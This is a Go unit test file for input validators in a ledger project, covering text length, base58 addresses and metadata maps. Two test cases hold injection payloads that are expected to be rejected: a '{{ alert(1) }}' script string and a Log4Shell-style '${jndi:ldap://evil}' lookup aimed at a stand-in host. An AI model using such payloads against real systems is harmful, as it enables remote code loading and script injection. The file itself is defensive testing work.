package validation

import (
	"fmt"
	"strings"
	"testing"

	"github.com/mr-tron/base58"

	"github.com/ch0002ic/creatorcoin-ai/errors"
)

func TestValidateShortTextLength(t *testing.T) {
	tests := []struct {
		name      string
		fieldName string
		value     string
		wantErr   bool
		wantCode  errors.LedgerErrorCode
		wantMsg   string
	}{
		{
			name:      "valid",
			fieldName: "valid_field",
			value:     "hello",
			wantErr:   false,
		},
		{
			name:      "empty string",
			fieldName: "empty_field",
			value:     "",
			wantErr:   false,
		},
		{
			name:      "json string",
			fieldName: "json_field",
			value:     "{\"key\": \"value\"}",
			wantErr:   false,
		},
		{
			name:      "too long",
			fieldName: "too_long_field",
			value:     makeString(MaxShortTextLength + 1),
			wantErr:   true,
			wantCode:  errors.ErrCodeInvalidRequest,
			wantMsg:   fmt.Sprintf(errors.ErrMsgShortTextTooLong, MaxShortTextLength, "too_long_field"),
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateShortTextLength(tt.fieldName, tt.value)

			if !tt.wantErr {
				if err != nil {
					t.Fatalf("unexpected error: %v", err)
				}
				return
			}

			if err == nil {
				t.Fatalf("expected error, got nil")
			}

			ledgerErr, ok := err.(*errors.LedgerError)
			if !ok {
				t.Fatalf("expected LedgerError, got %T", err)
			}

			if ledgerErr.Code != tt.wantCode {
				t.Fatalf("expected code %s, got %s", tt.wantCode, ledgerErr.Code)
			}

			if ledgerErr.Message != tt.wantMsg {
				t.Fatalf("expected message %q, got %q", tt.wantMsg, ledgerErr.Message)
			}
		})
	}
}

func TestValidateLongTextLength(t *testing.T) {
	tests := []struct {
		name      string
		fieldName string
		value     string
		wantErr   bool
		wantCode  errors.LedgerErrorCode
		wantMsg   string
	}{
		{
			name:      "valid",
			fieldName: "content",
			value:     "this is ok",
			wantErr:   false,
		},
		{
			name:      "empty string",
			fieldName: "empty_field",
			value:     "",
			wantErr:   false,
		},
		{
			name:      "json string",
			fieldName: "json_field",
			value:     "{\"key\": \"value\"}",
			wantErr:   false,
		},
		{
			name:      "injection pattern",
			fieldName: "injection_field",
			value:     "test {{ alert(1) }}",
			wantErr:   true,
			wantCode:  errors.ErrCodeInvalidRequest,
			wantMsg:   fmt.Sprintf(errors.ErrMsgInvalidCharacters, "injection_field"),
		},
		{
			name:      "too long",
			fieldName: "too_long_field",
			value:     makeString(MaxLongTextLength + 1),
			wantErr:   true,
			wantCode:  errors.ErrCodeInvalidRequest,
			wantMsg:   fmt.Sprintf(errors.ErrMsgLongTextTooLong, MaxLongTextLength, "too_long_field"),
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateLongTextLength(tt.fieldName, tt.value)

			if !tt.wantErr {
				if err != nil {
					t.Fatalf("unexpected error: %v", err)
				}
				return
			}

			if err == nil {
				t.Fatalf("expected error, got nil")
			}

			ledgerErr, ok := err.(*errors.LedgerError)
			if !ok {
				t.Fatalf("expected LedgerError, got %T", err)
			}

			if ledgerErr.Code != tt.wantCode {
				t.Fatalf("expected code %s, got %s", tt.wantCode, ledgerErr.Code)
			}

			if ledgerErr.Message != tt.wantMsg {
				t.Fatalf("expected message %q, got %q", tt.wantMsg, ledgerErr.Message)
			}
		})
	}
}

func TestValidateAddress(t *testing.T) {
	tests := []struct {
		name    string
		address string
		want    bool
	}{
		{
			name: "valid 32-byte key",
			address: func() string {
				key := make([]byte, 32)
				for i := 0; i < 32; i++ {
					key[i] = byte(i*7 + 3)
				}
				return base58.Encode(key)
			}(),
			want: true,
		},
		{
			name:    "module address",
			address: "CCTREASURY11111111111111111111111111111111",
			want:    true,
		},
		{
			name:    "invalid base58 string",
			address: "%%%not-base58%%%-but-long-enough-anyway!",
			want:    false,
		},
		{
			name:    "too short",
			address: base58.Encode([]byte{1, 2, 3}),
			want:    false,
		},
		{
			name:    "too long",
			address: strings.Repeat("2", MaxAddressLength+1),
			want:    false,
		},
		{
			name:    "empty",
			address: "",
			want:    false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ValidateAddress(tt.address)
			if got != tt.want {
				t.Fatalf("ValidateAddress(%q) = %v, want %v", tt.address, got, tt.want)
			}
		})
	}
}

func TestValidateMetadata(t *testing.T) {
	tests := []struct {
		name    string
		meta    map[string]string
		wantErr bool
	}{
		{
			name:    "nil metadata",
			meta:    nil,
			wantErr: false,
		},
		{
			name:    "simple entries",
			meta:    map[string]string{"requestId": "req-1", "reason": "tip"},
			wantErr: false,
		},
		{
			name: "too many entries",
			meta: func() map[string]string {
				m := make(map[string]string)
				for i := 0; i <= MaxMetadataEntries; i++ {
					m[fmt.Sprintf("key%d", i)] = "v"
				}
				return m
			}(),
			wantErr: true,
		},
		{
			name:    "oversized key",
			meta:    map[string]string{makeString(MaxShortTextLength + 1): "v"},
			wantErr: true,
		},
		{
			name:    "injection in value",
			meta:    map[string]string{"note": "${jndi:ldap://evil}"},
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateMetadata(tt.meta)
			if tt.wantErr && err == nil {
				t.Fatalf("expected error, got nil")
			}
			if !tt.wantErr && err != nil {
				t.Fatalf("unexpected error: %v", err)
			}
		})
	}
}

func makeString(n int) string {
	return strings.Repeat("a", n)
}
